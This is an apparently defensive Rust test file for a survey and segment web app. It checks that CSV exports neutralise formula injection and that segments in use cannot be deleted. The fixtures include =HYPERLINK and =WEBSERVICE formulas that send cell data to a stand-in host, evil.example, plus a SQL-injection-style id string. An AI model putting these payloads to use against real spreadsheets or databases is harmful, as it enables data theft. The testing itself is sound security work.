//! Data-level holes: formula injection in CSV exports, and settings pulled out from under
//! their users.

use crate::common::*;
use reqwest::StatusCode;
use serde_json::json;

// ---- formula injection in CSV exports -------------------------------------------------------

/// The first characters that make a spreadsheet evaluate a cell.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

#[tokio::test]
async fn formulas_planted_through_an_anonymous_survey_are_inert_in_the_csv_export() {
    let (app, _admin, csm) = app_with_csm().await;
    let acc = create_account(&csm, "Formula Co", "enterprise").await;
    let prompt = "What should we build next?";
    let question = [("input[questions][0][prompt]", prompt), ("input[questions][0][kind]", "text")];
    let (s, survey) = create_survey_with(&csm, "Event CSAT", "csat", &[&acc], &question).await;
    assert_eq!(s, StatusCode::OK, "{survey}");
    let sid = id_of(&survey);
    let url = anonymous_link(&app, &survey);

    // What an anonymous visitor sends, and the cell the CSM's export must hold.
    let exfiltrate = r#"=HYPERLINK("https://evil.example/?d="&H2,"x")"#;
    let ordinary = "Queue too long; fix it =SUM of all fears";
    let cases: Vec<(&str, String)> = vec![
        (exfiltrate, format!("'{exfiltrate}")),
        ("+1", "'+1".into()),
        ("-2+3", "'-2+3".into()),
        ("@SUM(A1)", "'@SUM(A1)".into()),
        // The public form trims surrounding whitespace, so a leading tab or carriage return
        // never reaches the file; the formula behind it must still be neutralised.
        ("\t=1+1", "'=1+1".into()),
        ("\r@SUM(A1:A9)", "'@SUM(A1:A9)".into()),
        (ordinary, ordinary.into()),
    ];
    let web = visitor();
    for (comment, _) in &cases {
        let res = post_form(&web, &url, &[("score", "3"), ("comment", comment)]).await;
        assert_eq!(res.status(), StatusCode::SEE_OTHER, "{comment:?}");
    }
    // A free-text extra question is a second way in.
    let answer = r#"=WEBSERVICE("https://evil.example/?"&I2)"#;
    assert_eq!(
        post_status(&web, &url, &[("score", "5"), ("comment", "See my answer"), ("q1", answer)])
            .await,
        StatusCode::SEE_OTHER
    );

    let res = csm.get(&format!("/surveys/{sid}/responses.csv")).await;
    assert_eq!(res.status(), StatusCode::OK);
    let body = res.text().await.unwrap();
    let mut rdr = csv::Reader::from_reader(body.as_bytes());
    let headers = rdr.headers().unwrap().clone();
    let col = |name: &str| {
        headers
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name} in {headers:?}"))
    };
    let (comment_col, answer_col) = (col("comment"), col(prompt));
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), cases.len() + 1);
    let comments: Vec<&str> = rows.iter().map(|r| &r[comment_col]).collect();
    for (sent, expected) in &cases {
        assert!(
            comments.contains(&expected.as_str()),
            "{sent:?} should export as {expected:?}; comments: {comments:?}"
        );
    }
    let with_answer = rows
        .iter()
        .find(|r| &r[comment_col] == "See my answer")
        .expect("the response with an extra answer");
    assert_eq!(&with_answer[answer_col], format!("'{answer}"));
    // Whatever else is in the file, no cell starts like a formula.
    for cell in headers.iter().chain(rows.iter().flat_map(|r| r.iter())) {
        assert!(!cell.starts_with(FORMULA_STARTS), "a cell starts like a formula: {cell:?}");
    }
}

// ---- settings pulled out from under their users ---------------------------------------------

async fn segment_ids(c: &Client) -> Vec<String> {
    c.ok("segments/list", &[]).await.as_array().unwrap().iter().map(id_of).collect()
}

/// Tries to delete `id`: refused with 409, a message naming each of `users`, and still there.
async fn refused_while_used(c: &Client, id: &str, users: &[&str]) -> String {
    let (s, b) = c.call("segments/delete", &[("id", id)]).await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    let message = b["Conflict"].as_str().unwrap_or_else(|| panic!("{b}"));
    for user in users {
        assert!(message.contains(user), "{user:?} not named in {message:?}");
    }
    assert!(segment_ids(c).await.iter().any(|s| s == id), "{id} gone");
    message.to_string()
}

async fn give_segment_a_health_model(admin: &Client, segment: &str) {
    let ed = admin.ok("health/editor", &[("scope", segment)]).await;
    let model = json!({ "scope": segment, "config": ed["model"]["config"] });
    admin.expect_json(StatusCode::OK, "health/save_model", &model).await;
}

async fn add_qbr_rule(admin: &Client, segment: &str) {
    admin.ok("engagement/rules/add", &cadence_rule_form(segment, "qbr", "90")).await;
}

/// A survey of a segment's contacts; `recurrence_months` blank for a one-off. Returns its id.
async fn segment_survey(c: &Client, name: &str, segment: &str, recurrence_months: &str) -> String {
    let b = c
        .ok(
            "surveys/create",
            &[
                ("input[name]", name),
                ("input[kind]", "nps"),
                ("input[audience]", "segment"),
                ("input[segment]", segment),
                ("input[recurrence_months]", recurrence_months),
            ],
        )
        .await;
    b["id"].as_str().unwrap().to_string()
}

async fn close_survey(c: &Client, id: &str) {
    c.ok("surveys/set_active", &[("id", id), ("active", "false")]).await;
}

#[tokio::test]
async fn a_csm_cannot_delete_a_segment_that_a_model_a_rule_or_a_live_survey_uses() {
    let (app, admin, csm) = app_with_csm().await;

    // Used by an admin's health model.
    let modelled = save_segment(&csm, "Enterprise", "tier=enterprise").await;
    give_segment_a_health_model(&admin, &modelled).await;
    let message = refused_while_used(&csm, &modelled, &["the health model “Enterprise”"]).await;
    assert_eq!(
        message,
        "this segment is used by the health model “Enterprise”; change those first"
    );
    // The way out is an admin's: stop using the model (a CSM may not; the default model
    // cannot be retired). Then the segment may go, and its accounts fall to the default.
    csm.expect(StatusCode::FORBIDDEN, "health/retire_model", &[("scope", modelled.as_str())]).await;
    admin.invalid("health/retire_model", &[("scope", "default")]).await;
    admin.ok("health/retire_model", &[("scope", modelled.as_str())]).await;
    let in_force = app::store::health::current_models(&app.db).await.unwrap();
    assert!(in_force.iter().all(|m| m.scope != modelled), "retired");
    assert_eq!(
        app::store::health::all_versions(&app.db)
            .await
            .unwrap()
            .iter()
            .filter(|m| m.scope == modelled)
            .count(),
        1,
        "its versions stay for the history"
    );
    let (s, _) = admin.call("health/retire_model", &[("scope", modelled.as_str())]).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "nothing left to retire");
    csm.ok("segments/delete", &[("id", &modelled)]).await;

    // Used by an admin's cadence rule; once the rule is gone, the segment may go.
    let ruled = save_segment(&csm, "Big renewals", "tier=enterprise&stage=renewal").await;
    add_qbr_rule(&admin, &ruled).await;
    refused_while_used(
        &csm,
        &ruled,
        &["the cadence rule “Quarterly business review every 90 days”"],
    )
    .await;
    let rules = admin.ok("engagement/rules", &[]).await;
    let rule =
        rules.as_array().unwrap().iter().find(|r| r["segment_id"] == ruled.as_str()).unwrap()["id"]
            .as_str()
            .unwrap()
            .to_string();
    admin.ok("engagement/rules/remove", &[("id", &rule)]).await;
    csm.ok("segments/delete", &[("id", &ruled)]).await;
    assert!(!segment_ids(&csm).await.contains(&ruled));

    // Used by a recurring survey: refused even while the survey is closed, since reopening it
    // resumes the schedule.
    let surveyed = save_segment(&csm, "Small", "tier=smb").await;
    let recurring = segment_survey(&csm, "Quarterly NPS", &surveyed, "3").await;
    refused_while_used(&csm, &surveyed, &["the survey “Quarterly NPS”"]).await;
    close_survey(&csm, &recurring).await;
    refused_while_used(&csm, &surveyed, &["the survey “Quarterly NPS”"]).await;

    // An open one-off survey can still be sent; once closed, it has gone out and the segment
    // may go.
    let one_off_segment = save_segment(&csm, "Launch", "tier=smb&stage=onboarding").await;
    let one_off = segment_survey(&csm, "Launch CSAT", &one_off_segment, "").await;
    refused_while_used(&csm, &one_off_segment, &["the survey “Launch CSAT”"]).await;
    close_survey(&csm, &one_off).await;
    csm.ok("segments/delete", &[("id", &one_off_segment)]).await;

    // Everything at once: one sentence naming each user.
    let shared = save_segment(&csm, "Strategic", "tier=enterprise&stage=growth").await;
    give_segment_a_health_model(&admin, &shared).await;
    add_qbr_rule(&admin, &shared).await;
    segment_survey(&csm, "Strategic NPS", &shared, "6").await;
    let message = refused_while_used(&csm, &shared, &[]).await;
    assert_eq!(
        message,
        "this segment is used by the health model “Strategic”, the cadence rule “Quarterly \
         business review every 90 days” and the survey “Strategic NPS”; change those first"
    );
    // An admin is held to the same rule.
    let (s, _) = admin.call("segments/delete", &[("id", &shared)]).await;
    assert_eq!(s, StatusCode::CONFLICT);

    // Nothing uses this one: it goes. Forged and already-deleted ids are 404s.
    let unused = save_segment(&csm, "Scratch", "stage=growth").await;
    csm.ok("segments/delete", &[("id", &unused)]).await;
    for id in [unused.as_str(), "forged", "x') OR true; --"] {
        let (s, b) = csm.call("segments/delete", &[("id", id)]).await;
        assert_eq!(s, StatusCode::NOT_FOUND, "{id}: {b}");
    }
    let left = segment_ids(&csm).await;
    for id in [&surveyed, &shared] {
        assert!(left.contains(id), "{id} should still exist: {left:?}");
    }
    assert!(!left.contains(&modelled), "deleted once its model was retired");
    assert_eq!(left.len(), 2, "{left:?}");
}
